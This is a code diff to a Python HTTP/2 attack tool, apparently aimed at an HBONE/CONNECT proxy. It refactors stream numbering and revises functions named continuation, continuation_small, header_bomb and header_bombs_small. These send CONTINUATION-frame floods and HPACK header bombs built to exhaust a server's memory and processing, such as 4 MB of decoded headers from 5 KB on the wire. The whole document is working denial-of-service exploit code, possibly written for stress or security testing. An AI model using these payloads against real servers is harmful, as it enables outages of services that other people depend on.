@@ -7,6 +7,8 @@ import ssl
 import sys
 import time
 
+import hpack
+
 import frames
 import hbone
 from frames import ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING, PRIORITY, PUSH, SETTINGS, UNKNOWN, frame, window, word
@@ -46,8 +48,12 @@ class Attack:
                 elif kind == PING and not flags & ACK:
                     self.wire.send(frame(PING, ACK, 0, payload))
 
-    def stream(self, authority=None, flags=END_HEADERS):
+    def number(self):
         stream, self.next = self.next, self.next + 2
+        return stream
+
+    def stream(self, authority=None, flags=END_HEADERS):
+        stream = self.number()
         return stream, self.wire.connect(stream, authority or self.args.authority, flags)
 
     def opened(self):
@@ -125,20 +131,20 @@ def empty_data(a):
 
 
 def continuation(a):
-    stream, _ = a.stream()
+    stream = a.number()
     a.wire.send(frame(HEADERS, 0, stream, b"\x00\x7f\xff\xff\xff\x07"))
     a.repeat(frame(CONTINUATION, 0, stream, b"x" * 16384), 2000)
 
 
 def continuation_small(a):
-    stream, _ = a.stream()
+    stream = a.number()
     a.wire.send(frame(HEADERS, 0, stream, b"\x83"))
     a.repeat(frame(CONTINUATION, 0, stream), MANY)
 
 
 def header_bomb(a):
     # One header of nearly the whole table, then a thousand references to it of one byte each: 4 MB from 5 KB.
-    stream, _ = a.stream()
+    stream = a.number()
     literal = a.wire.encoder.encode([(":method", "CONNECT"), (":authority", a.args.authority), ("bomb", "x" * 4000)], huffman=False)
     a.wire.send(frame(HEADERS, END_HEADERS, stream, literal + b"\xbe" * 1000))
 
@@ -146,8 +152,9 @@ def header_bomb(a):
 def header_bombs_small(a):
     # Within what h2 tolerates of a list (four times the limit), over and over.
     for _ in range(a.args.count or 300):
-        stream, _ = a.stream()
-        headers = [(":method", "CONNECT"), (":authority", a.args.authority)] + [("bomb", "x" * 3900)] * 10
+        stream = a.number()
+        headers = [(":method", "CONNECT"), (":authority", a.args.authority)]
+        headers += [hpack.NeverIndexedHeaderTuple(f"bomb-{n}", "x" * 3900) for n in range(5)]
         a.wire.send(frame(HEADERS, END_HEADERS, stream, a.wire.encoder.encode(headers)))
         a.settle(0.005)
 
